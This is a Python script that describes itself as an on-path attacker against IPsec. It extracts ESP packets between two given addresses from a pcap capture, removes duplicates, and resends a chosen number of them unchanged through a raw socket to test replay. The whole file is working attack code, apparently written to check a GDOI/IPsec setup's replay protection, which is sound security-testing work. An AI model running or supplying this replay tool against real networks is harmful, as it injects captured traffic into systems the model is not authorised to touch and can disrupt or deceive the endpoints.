#!/usr/bin/python3
"""An attacker on the path: takes ESP packets from a capture and sends them again as they were. It knows no key. Needs root,
for raw sockets.
"""

import argparse
import socket
import struct
import sys

from gdoi_decrypt import LINKS

ESP = 50


def esp_packets(path, source, destination):
    """ESP packets over IPv4 between two addresses, each once however often the capture saw it."""
    with open(path, "rb") as file:
        data = file.read()
    order = {b"\xd4\xc3\xb2\xa1": "<", b"\xa1\xb2\xc3\xd4": ">"}.get(data[:4])
    if order is None:
        raise SystemExit(f"{path} is no capture in pcap format with microseconds")
    link = struct.unpack_from(order + "I", data, 20)[0] & 0xFFFF
    offset, seen = 24, set()
    while offset + 16 <= len(data):
        _, _, kept, length = struct.unpack_from(order + "IIII", data, offset)
        frame, offset = data[offset + 16 : offset + 16 + kept], offset + 16 + kept
        packet = frame[LINKS[link] :]
        if len(packet) < 28 or packet[0] >> 4 != 4 or packet[9] != ESP:
            continue
        if (packet[12:16], packet[16:20]) != (socket.inet_aton(source), socket.inet_aton(destination)):
            continue
        if kept < length:
            raise SystemExit(f"{path} does not hold whole packets")
        total = struct.unpack_from("!H", packet, 2)[0]
        key = packet[20:total]
        if key not in seen:
            seen.add(key)
            yield packet[:total]


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("--pcap", required=True, help="capture in which the packets are")
    parser.add_argument("--source", required=True, help="their source address")
    parser.add_argument("--destination", required=True, help="their destination address")
    parser.add_argument("--count", type=int, default=5, help="so many of them")
    options = parser.parse_args()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for packet in esp_packets(options.pcap, options.source, options.destination):
        if sent == options.count:
            break
        raw.sendto(packet, (options.destination, 0))
        sent += 1
    print(f"sent {sent} again")
    return 0 if sent == options.count else 1


if __name__ == "__main__":
    sys.exit(main())
